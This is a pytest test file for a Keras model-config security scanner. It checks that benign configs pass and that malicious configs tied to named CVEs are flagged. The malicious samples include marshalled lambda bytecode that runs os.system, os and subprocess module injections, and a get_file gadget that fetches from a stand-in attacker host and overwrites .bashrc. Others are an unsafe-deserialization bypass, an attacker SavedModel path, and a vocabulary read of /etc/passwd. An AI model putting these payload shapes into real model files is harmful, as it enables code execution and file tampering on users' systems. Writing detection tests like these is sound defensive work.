"""Keras config checks: real-shaped benign configs give no findings, and each malicious shape
names the advisory it comes from. The configs are written by hand in the shape Keras 3 (and,
for the legacy cases, Keras 2 `.h5` `model_config`) serializes; no Keras is imported."""

from __future__ import annotations

import base64
import copy
import json
import marshal
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from proxy.scan.keras import check_archive_members, check_config
from proxy.scan.report import Finding, Severity

Json = dict[str, Any]
LOCATION = "model.keras/config.json"


# --- building configs -------------------------------------------------------------------------


def obj(module: str | None, class_name: str, config: Any, registered: str | None = None) -> Json:
    return {
        "module": module,
        "class_name": class_name,
        "config": config,
        "registered_name": registered,
    }


def dtype_policy() -> Json:
    return obj("keras", "DTypePolicy", {"name": "float32"})


def initializer(name: str) -> Json:
    return obj("keras.initializers", name, {"seed": None} if name != "Zeros" else {})


def layer(class_name: str, name: str, **config: Any) -> Json:
    inner = {"name": name, "trainable": True, "dtype": dtype_policy(), **config}
    entry = obj("keras.layers", class_name, inner)
    entry["build_config"] = {"input_shape": [None, 16]}
    return entry


def dense(name: str, units: int, activation: str = "relu") -> Json:
    return layer(
        "Dense",
        name,
        units=units,
        activation=activation,
        use_bias=True,
        kernel_initializer=initializer("GlorotUniform"),
        bias_initializer=initializer("Zeros"),
        kernel_regularizer=None,
        bias_regularizer=None,
        kernel_constraint=None,
        bias_constraint=None,
    )


def keras_tensor(source: str) -> Json:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 16], "dtype": "float32", "keras_history": [source, 0, 0]},
    }


def functional_entry(entry: Json, *inputs: str) -> Json:
    entry = copy.deepcopy(entry)
    entry["name"] = entry["config"]["name"]
    args: list[Any] = [keras_tensor(i) for i in inputs]
    entry["inbound_nodes"] = [{"args": [args] if len(args) > 1 else args, "kwargs": {}}]
    return entry


def compile_config() -> Json:
    return {
        "optimizer": obj(
            "keras.optimizers",
            "Adam",
            {"name": "adam", "learning_rate": 0.001, "beta_1": 0.9, "beta_2": 0.999},
        ),
        "loss": "sparse_categorical_crossentropy",
        "loss_weights": None,
        "metrics": ["accuracy"],
        "weighted_metrics": None,
        "run_eagerly": False,
        "steps_per_execution": 1,
        "jit_compile": False,
    }


def sequential_cnn() -> Json:
    """`keras.Sequential([Input, Conv2D, BatchNormalization, MaxPooling2D, Dropout, Flatten,
    Dense])` as Keras 3.x writes it to config.json."""
    layers = [
        obj(
            "keras.layers",
            "InputLayer",
            {"batch_shape": [None, 28, 28, 1], "dtype": "float32", "sparse": False, "name": "in"},
        ),
        layer(
            "Conv2D",
            "conv2d",
            filters=32,
            kernel_size=[3, 3],
            strides=[1, 1],
            padding="valid",
            data_format="channels_last",
            dilation_rate=[1, 1],
            groups=1,
            activation="relu",
            use_bias=True,
            kernel_initializer=initializer("GlorotUniform"),
            bias_initializer=initializer("Zeros"),
        ),
        layer(
            "BatchNormalization",
            "batch_normalization",
            axis=-1,
            momentum=0.99,
            epsilon=0.001,
            center=True,
            scale=True,
            beta_initializer=initializer("Zeros"),
            gamma_initializer=obj("keras.initializers", "Ones", {}),
            moving_mean_initializer=initializer("Zeros"),
            moving_variance_initializer=obj("keras.initializers", "Ones", {}),
            synchronized=False,
        ),
        layer("MaxPooling2D", "max_pooling2d", pool_size=[2, 2], padding="valid"),
        layer("Dropout", "dropout", rate=0.25, seed=None, noise_shape=None),
        layer("Flatten", "flatten", data_format="channels_last"),
        dense("dense", 10, activation="softmax"),
    ]
    model = obj(
        "keras",
        "Sequential",
        {"name": "sequential", "trainable": True, "dtype": dtype_policy(), "layers": layers},
    )
    model["build_config"] = {"input_shape": [None, 28, 28, 1]}
    model["compile_config"] = compile_config()
    return model


def functional_residual(nested: Json | None = None) -> Json:
    """A Functional model with an InputLayer, two Dense branches joined by Add, LayerNorm and
    (optionally) a nested model used as a layer."""
    entries = [
        {
            **obj(
                "keras.layers",
                "InputLayer",
                {"batch_shape": [None, 16], "dtype": "float32", "sparse": False, "name": "x"},
            ),
            "name": "x",
            "inbound_nodes": [],
        },
        functional_entry(dense("a", 16), "x"),
        functional_entry(dense("b", 16, activation="gelu"), "x"),
        functional_entry(layer("Add", "add"), "a", "b"),
        functional_entry(layer("LayerNormalization", "ln", axis=[-1], epsilon=1e-6), "add"),
    ]
    last = "ln"
    if nested is not None:
        nested = copy.deepcopy(nested)
        nested["name"] = nested["config"]["name"]
        nested["inbound_nodes"] = [{"args": [keras_tensor("ln")], "kwargs": {}}]
        entries.append(nested)
        last = nested["name"]
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "residual",
            "trainable": True,
            "layers": entries,
            "input_layers": [["x", 0, 0]],
            "output_layers": [[last, 0, 0]],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
        "compile_config": compile_config(),
    }


def sequential_mlp() -> Json:
    return obj(
        "keras",
        "Sequential",
        {
            "name": "head",
            "trainable": True,
            "dtype": dtype_policy(),
            "layers": [dense("h1", 32), dense("h2", 4, activation="linear")],
        },
    )


def legacy_h5_config() -> Json:
    """A Keras 2.x `.h5` `model_config` attribute: no module or registered_name keys."""
    return {
        "class_name": "Sequential",
        "config": {
            "name": "sequential_1",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 8], "dtype": "float32", "name": "in"},
                },
                {
                    "class_name": "Dense",
                    "config": {
                        "name": "dense_1",
                        "units": 4,
                        "activation": "tanh",
                        "kernel_initializer": {
                            "class_name": "GlorotUniform",
                            "config": {"seed": None},
                        },
                        "bias_initializer": {"class_name": "Zeros", "config": {}},
                    },
                },
            ],
        },
        "keras_version": "2.12.0",
        "backend": "tensorflow",
    }


def rules(findings: list[Finding]) -> set[str]:
    return {f.rule for f in findings}


def marshalled_lambda() -> str:
    """base64 of a marshalled code object, as Keras' func_dump writes a Lambda's function."""
    code = compile("lambda x: __import__('os').system('id')", "<lambda>", "eval")
    return base64.b64encode(marshal.dumps(code)).decode("ascii")


# --- benign -----------------------------------------------------------------------------------


BENIGN = {
    "sequential-cnn": sequential_cnn(),
    "functional-residual": functional_residual(),
    "functional-with-nested-sequential": functional_residual(nested=sequential_mlp()),
    "legacy-h5": legacy_h5_config(),
}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_configs_have_no_findings(name: str) -> None:
    assert check_config(BENIGN[name], location=LOCATION) == []


def test_benign_config_as_json_text_and_bytes() -> None:
    text = json.dumps(sequential_cnn())
    assert check_config(text, location=LOCATION) == []
    assert check_config(text.encode(), location=LOCATION) == []


def test_keras_builtin_function_written_with_module_builtins() -> None:
    """Keras serializes some built-in losses as module `builtins`, class_name `function`; it
    looks the name up in its own modules, so this is benign."""
    config = sequential_cnn()
    config["compile_config"]["loss"] = obj("builtins", "function", "mean_squared_error")
    assert check_config(config, location=LOCATION) == []


def test_shared_objects_are_benign() -> None:
    config = functional_residual()
    config["config"]["layers"][1]["shared_object_id"] = 140230
    assert check_config(config, location=LOCATION) == []


# --- malicious --------------------------------------------------------------------------------


def with_layer(entry: Json, *, functional: bool = True) -> Json:
    config = functional_residual() if functional else sequential_cnn()
    config["config"]["layers"].append(entry)
    return config


def test_lambda_layer_keras3_cve_2024_3660() -> None:
    """CVE-2024-3660: a Lambda layer's function is marshalled bytecode run at load time."""
    entry = layer(
        "Lambda",
        "lambda",
        function={
            "class_name": "__lambda__",
            "config": {"code": marshalled_lambda(), "defaults": None, "closure": None},
        },
        arguments={},
    )
    findings = check_config(with_layer(entry, functional=False), location=LOCATION)
    assert [f.rule for f in findings] == ["keras-lambda"]
    assert findings[0].severity is Severity.CRITICAL
    assert findings[0].location == f"{LOCATION}: config.layers[7]"


def test_legacy_lambda_with_function_type_cve_2024_3660() -> None:
    """CVE-2024-3660 in a Keras 2 `.h5`: function = [base64 bytecode, defaults, closure]."""
    config = legacy_h5_config()
    config["config"]["layers"].append(
        {
            "class_name": "Lambda",
            "config": {
                "name": "lambda_1",
                "function": [marshalled_lambda(), None, None],
                "function_type": "lambda",
                "module": "__main__",
                "output_shape": None,
                "output_shape_type": "raw",
                "output_shape_module": None,
                "arguments": {},
            },
        }
    )
    findings = check_config(config, location="model.h5")
    assert {"keras-lambda", "keras-module-outside-keras"} <= rules(findings)
    assert all(f.severity is Severity.CRITICAL for f in findings)


def test_bytecode_hidden_outside_a_lambda_cve_2024_3660() -> None:
    """Marshalled bytecode is found wherever it sits, not only under class_name Lambda."""
    config = sequential_cnn()
    config["config"]["layers"][1]["config"]["activation"] = {
        "class_name": "Custom",
        "config": {"function": marshalled_lambda()},
    }
    assert "keras-lambda" in rules(check_config(config, location=LOCATION))


@pytest.mark.parametrize(
    ("module", "class_name", "inner"),
    [
        ("os", "system", "id"),
        ("subprocess", "Popen", {"args": ["sh", "-c", "id"]}),
        ("builtins", "function", "exec"),
        ("builtins", "eval", {}),
        ("__main__", "MyLayer", {}),
        ("kerasx.layers", "Dense", {}),
    ],
)
def test_module_outside_keras_cve_2025_1550(module: str, class_name: str, inner: Any) -> None:
    """CVE-2025-1550: Keras < 3.9 imported any `module` named in config.json."""
    findings = check_config(with_layer(obj(module, class_name, inner)), location=LOCATION)
    assert "keras-module-outside-keras" in rules(findings)
    assert max(f.severity for f in findings) is Severity.CRITICAL


def test_get_file_called_as_a_layer_cve_2025_8747() -> None:
    """CVE-2025-8747 (JFrog): a Functional layers entry that is a Keras function is called with
    the inbound node's kwargs: keras.utils.get_file overwrites a file of the attacker's choice."""
    entry = obj("keras.utils", "function", "get_file")
    entry["name"] = "fetch"
    entry["inbound_nodes"] = [
        {
            "args": [],
            "kwargs": {"origin": "https://attacker.invalid/x", "fname": "/home/u/.bashrc"},
        }
    ]
    findings = check_config(with_layer(entry), location=LOCATION)
    assert rules(findings) == {"keras-gadget"}
    assert findings[0].severity is Severity.CRITICAL


def test_function_as_class_name_cve_2025_8747() -> None:
    """The same gadget written as class_name `get_file` (a function where a class belongs)."""
    findings = check_config(with_layer(obj("keras.utils", "get_file", {})), location=LOCATION)
    assert rules(findings) == {"keras-gadget"}


def test_enable_unsafe_deserialization_then_lambda_cve_2025_9906() -> None:
    """CVE-2025-9906: config.json calls keras.config.enable_unsafe_deserialization as a layer,
    so the Lambda after it loads although safe_mode was requested."""
    enabler = obj("keras.config", "function", "enable_unsafe_deserialization")
    enabler["name"] = "enable"
    enabler["inbound_nodes"] = [{"args": [], "kwargs": {}}]
    config = with_layer(enabler)
    config["config"]["layers"].append(
        layer(
            "Lambda",
            "payload",
            function={"class_name": "__lambda__", "config": {"code": marshalled_lambda()}},
        )
    )
    findings = check_config(config, location=LOCATION)
    assert {"keras-unsafe-deserialization", "keras-lambda", "keras-gadget"} <= rules(findings)
    unsafe = [f for f in findings if f.rule == "keras-unsafe-deserialization"]
    assert len(unsafe) == 1  # one finding per object, not one per string naming it


def test_dotted_unsafe_name_anywhere_cve_2025_9906() -> None:
    config = sequential_cnn()
    config["config"]["layers"][2]["config"]["gamma_initializer"] = obj(
        "keras.config", "enable_unsafe_deserialization", {}
    )
    assert "keras-unsafe-deserialization" in rules(check_config(config, location=LOCATION))


def test_tfsmlayer_cve_2026_1462() -> None:
    """CVE-2026-1462: TFSMLayer loads a SavedModel from a path in the config (< 3.13.2)."""
    entry = obj(
        "keras.layers",
        "TFSMLayer",
        {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"},
    )
    findings = check_config(with_layer(entry, functional=False), location=LOCATION)
    assert rules(findings) == {"keras-tfsmlayer"}
    assert findings[0].severity is Severity.CRITICAL
    assert "/tmp/attacker_savedmodel" in findings[0].message


def test_registered_custom_object_is_high() -> None:
    """Custom classes need their code from outside the file: a policy decision, not a pass."""
    entry = obj("keras.layers", "Attention2", {"name": "att"}, registered="MyPackage>Attention2")
    findings = check_config(with_layer(entry, functional=False), location=LOCATION)
    assert rules(findings) == {"keras-custom-object"}
    assert findings[0].severity is Severity.HIGH


def test_legacy_custom_class_name_is_high() -> None:
    config = legacy_h5_config()
    config["config"]["layers"].append({"class_name": "Custom>Swish", "config": {}})
    assert rules(check_config(config, location="model.h5")) == {"keras-custom-object"}


def test_keras_hub_backbone_is_custom_not_critical() -> None:
    """keras_hub classes are imported by Keras itself, but their code is another package's."""
    config = obj(
        "keras_hub.src.models.gemma.gemma_backbone",
        "GemmaBackbone",
        {"name": "gemma_backbone", "vocabulary_size": 256000},
        registered="keras_hub>GemmaBackbone",
    )
    findings = check_config(config, location="config.json")
    assert rules(findings) == {"keras-custom-object"}
    assert max(f.severity for f in findings) is Severity.HIGH


def test_custom_activation_by_name_is_high() -> None:
    config = sequential_cnn()
    config["config"]["layers"][1]["config"]["activation"] = "my_pkg>fancy_relu"
    config["compile_config"]["metrics"] = ["accuracy", "mylib.metrics.f1"]
    findings = check_config(config, location=LOCATION)
    assert rules(findings) == {"keras-custom-object"}
    assert len(findings) == 2


def test_function_from_a_module_without_builtins_is_high() -> None:
    config = sequential_cnn()
    config["compile_config"]["loss"] = obj("keras.src.utils.file_utils", "function", "extract")
    findings = check_config(config, location=LOCATION)
    assert rules(findings) == {"keras-function-reference"}


def test_torch_module_wrapper_is_critical() -> None:
    """TorchModuleWrapper stores a torch.save'd module in its config and torch.loads it."""
    entry = obj("keras.layers", "TorchModuleWrapper", {"name": "t", "module": "gASVAAAA"})
    assert "keras-torch-module" in rules(check_config(with_layer(entry), location=LOCATION))


def test_lookup_vocabulary_from_a_file_is_high() -> None:
    """A StringLookup whose vocabulary is a path reads that file when the model loads."""
    entry = layer("StringLookup", "lookup", vocabulary="/etc/passwd", num_oov_indices=1)
    assert rules(check_config(with_layer(entry), location=LOCATION)) == {"keras-file-reference"}


@pytest.mark.parametrize("config", [None, [], 3, "not json", b"\xff\xfe", "[1, 2]"])
def test_not_an_object_is_malformed(config: object) -> None:
    findings = check_config(config, location=LOCATION)
    assert rules(findings) == {"keras-malformed"}
    assert findings[0].severity is Severity.HIGH


def test_non_string_module_and_class_name_are_malformed() -> None:
    assert rules(check_config(obj(None, "X", {}) | {"module": 3}, location="c")) == {
        "keras-malformed"
    }
    assert rules(check_config({"class_name": ["Lambda"]}, location="c")) == {"keras-malformed"}


def test_deep_nesting_fails_closed() -> None:
    config: Json = {"class_name": "Sequential", "config": {}}
    inner = config["config"]
    for _ in range(1000):
        inner["x"] = {}
        inner = inner["x"]
    inner["class_name"] = "Lambda"
    findings = check_config(config, location=LOCATION)
    assert rules(findings) == {"keras-malformed"}


# --- archives ---------------------------------------------------------------------------------


def test_archive_members() -> None:
    assert check_archive_members(["metadata.json", "config.json", "model.weights.h5"])
    assert check_archive_members(["config.json", "metadata.json"])
    assert not check_archive_members(["config.json", "model.weights.h5"])
    assert not check_archive_members(["model/config.json", "model/metadata.json"])
    assert not check_archive_members(["data.pkl", "version"])


# --- never raises -----------------------------------------------------------------------------

KEYS = st.sampled_from(
    [
        "class_name",
        "config",
        "module",
        "registered_name",
        "layers",
        "function",
        "function_type",
        "activation",
        "metrics",
        "vocabulary",
        "filepath",
        "name",
        "inbound_nodes",
    ]
)
LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True),
    st.text(max_size=30),
    st.sampled_from(
        ["Lambda", "function", "keras.layers", "os", "builtins", "lambda", "TFSMLayer", "a>b"]
    ),
)
JSONISH = st.recursive(
    LEAVES,
    lambda children: (
        st.lists(children, max_size=5)
        | st.dictionaries(KEYS | st.text(max_size=8), children, max_size=6)
    ),
    max_leaves=40,
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(JSONISH)
def test_random_configs_never_raise(config: object) -> None:
    findings = check_config(config, location=LOCATION)
    assert all(isinstance(f, Finding) for f in findings)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(sorted(BENIGN)), st.data())
def test_mutated_configs_never_raise(name: str, data: st.DataObject) -> None:
    text = bytearray(json.dumps(BENIGN[name]).encode())
    for _ in range(data.draw(st.integers(1, 8))):
        index = data.draw(st.integers(0, len(text) - 1))
        text[index] = data.draw(st.integers(0, 255))
    findings = check_config(bytes(text), location=LOCATION)
    assert all(isinstance(f, Finding) for f in findings)


def test_tf_keras_optimizers_registered_as_custom_are_built_ins() -> None:
    """tf.keras saves its own optimizers as `Custom>Adam` (training_config of compiled models);
    any other `Custom>` name is still a custom object."""
    training = {
        "optimizer_config": {"class_name": "Custom>Adam", "config": {"learning_rate": 0.001}},
        "loss": "mse",
    }
    assert check_config(training, location="model.h5") == []
    training["optimizer_config"]["class_name"] = "Custom>Backdoor"  # type: ignore[index]
    findings = check_config(training, location="model.h5")
    assert [f.rule for f in findings] == ["keras-custom-object"]
